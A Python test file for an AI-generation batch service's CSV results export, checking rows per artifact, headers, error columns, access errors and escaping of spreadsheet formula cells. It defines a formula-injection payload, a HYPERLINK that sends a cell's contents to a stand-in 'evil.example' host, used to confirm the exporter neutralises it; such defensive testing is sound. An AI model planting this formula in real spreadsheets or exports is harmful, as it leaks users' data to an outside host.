"""A batch's results as CSV (`?format=csv`): one row per artifact, text inline, errors in
their columns, a BOM for Excel and formula cells escaped; 404/410 as the JSONL. Jobs are
finished the way a worker records them (claim, bytes into the store, succeed or fail),
which keeps each test to milliseconds."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid

import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from aigc.settings import Settings
from aigc.storage import LocalStore
from api.results_csv import RESULTS_CSV_FIELDS
from db import jobs as job_queries
from tests.conftest import TeamKey

WORKER = "test-results-csv"
# What a prompt or a model may say that a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _submit(client: TestClient) -> tuple[str, list[uuid.UUID]]:
    """A batch of four: text (succeeds), image (two artifacts), text (fails), text (left
    queued); returns its id and the job ids in input order."""
    jobs = [
        {"custom_id": "+sum", "kind": "text", "model": "echo", "prompt": "p"},
        {"custom_id": "pics", "kind": "image", "prompt": "a kite", "params": {"steps": 1}},
        {"custom_id": "@bad", "kind": "text", "model": "echo", "prompt": "p"},
        {"custom_id": "waits", "kind": "text", "model": "echo", "prompt": "p"},
    ]
    created = client.post("/v1/batches", json={"jobs": jobs})
    assert created.status_code == 202, created.text
    batch_id = created.json()["id"]
    listed = client.get(f"/v1/batches/{batch_id}/jobs").json()["data"]
    return batch_id, [uuid.UUID(job["id"]) for job in listed]


def _artifact(
    store: LocalStore, job_id: uuid.UUID, index: int, mime_type: str, data: bytes
) -> job_queries.NewArtifact:
    key = f"jobs/{job_id.hex[:8]}/{job_id}-1-{index}"
    store.put(key, io.BytesIO(data))
    return job_queries.NewArtifact(
        index=index, mime_type=mime_type, size_bytes=len(data),
        sha256=hashlib.sha256(data).hexdigest(), storage_key=key, facts={},
    )  # fmt: skip


def _finish(engine: sa.Engine, settings: Settings, jobs: list[uuid.UUID]) -> None:
    """The first job says FORMULA, the second makes two images, the third fails."""
    store = LocalStore(settings.artifact_dir)
    text, image, failing, _ = jobs
    with Session(engine) as session, session.begin():
        claimed = job_queries.claim_jobs(session, jobs[:3], worker=WORKER, lease_s=60)
        runs = {job.id: job.attempts for job in claimed}
        job_queries.succeed_jobs(
            session,
            worker=WORKER,
            runs={text: runs[text], image: runs[image]},
            artifacts={
                text: [_artifact(store, text, 0, "text/plain", FORMULA.encode())],
                image: [
                    _artifact(store, image, index, "image/png", b"\x89PNG not really")
                    for index in (0, 1)
                ],
            },
        )
        job_queries.fail_job(
            session, failing, worker=WORKER, attempt=runs[failing],
            error_code="invalid_input", error_message="-1 is not a length",
        )  # fmt: skip


def _rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_results_csv_has_a_row_per_artifact_with_text_errors_and_escaping(
    client: TestClient, settings: Settings, db_engine: sa.Engine
) -> None:
    batch_id, jobs = _submit(client)
    _finish(db_engine, settings, jobs)

    response = client.get(f"/v1/batches/{batch_id}/results", params={"format": "csv"})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert (
        response.headers["content-disposition"]
        == f'attachment; filename="batch-{batch_id}-results.csv"'
    )
    assert response.content.startswith(b"\xef\xbb\xbf" + ",".join(RESULTS_CSV_FIELDS).encode())

    rows = _rows(response.content)
    assert [(r["line"], r["custom_id"], r["status"], r["artifact_index"]) for r in rows] == [
        ("1", "'+sum", "succeeded", "0"),
        ("2", "pics", "succeeded", "0"),
        ("2", "pics", "succeeded", "1"),
        ("3", "'@bad", "failed", ""),
        ("4", "waits", "queued", ""),
    ]
    assert [r["job_id"] for r in rows] == [str(jobs[n]) for n in (0, 1, 1, 2, 3)]
    text, *images = rows[:3]
    # The model's text, inline, escaped: a spreadsheet shows it and runs nothing.
    assert text["text"] == f"'{FORMULA}"
    assert text["mime_type"] == "text/plain"
    assert text["sha256"] == hashlib.sha256(FORMULA.encode()).hexdigest()
    assert [image["text"] for image in images] == ["", ""]
    assert [image["mime_type"] for image in images] == ["image/png"] * 2
    # The same URLs the JSONL lines give.
    jsonl = client.get(f"/v1/batches/{batch_id}/results").text.splitlines()
    assert [r["url"] for r in rows[:3]] == [url for line in jsonl[:2] for url in _urls(line)]
    failed, queued = rows[3:]
    assert (failed["error_code"], failed["error_message"]) == (
        "invalid_input",
        "'-1 is not a length",
    )
    assert failed["url"] == failed["sha256"] == failed["text"] == ""
    assert queued["error_code"] == queued["error_message"] == queued["url"] == ""


def _urls(line: str) -> list[str]:
    return [artifact["url"] for artifact in json.loads(line)["artifacts"]]


def test_unknown_format_is_a_422_naming_it(client: TestClient) -> None:
    batch_id, _ = _submit(client)
    response = client.get(f"/v1/batches/{batch_id}/results", params={"format": "xml"})
    assert response.status_code == 422, response.text
    assert [e["field"] for e in response.json()["error"]["errors"]] == ["format"]


def test_csv_results_are_404_to_another_team_and_410_once_expired(
    client: TestClient, other_team: TeamKey, db_engine: sa.Engine
) -> None:
    batch_id, _ = _submit(client)
    csv_results = f"/v1/batches/{batch_id}/results?format=csv"
    assert client.get(csv_results, headers=other_team.headers).status_code == 404
    assert client.get(csv_results).status_code == 200

    with db_engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE batches SET expires_at = now() - interval '1 hour' WHERE id = :id"),
            {"id": batch_id},
        )
    for path in (csv_results, f"/v1/batches/{batch_id}/results"):
        gone = client.get(path)
        assert gone.status_code == 410, gone.text
        assert gone.json()["error"]["type"] == "gone"
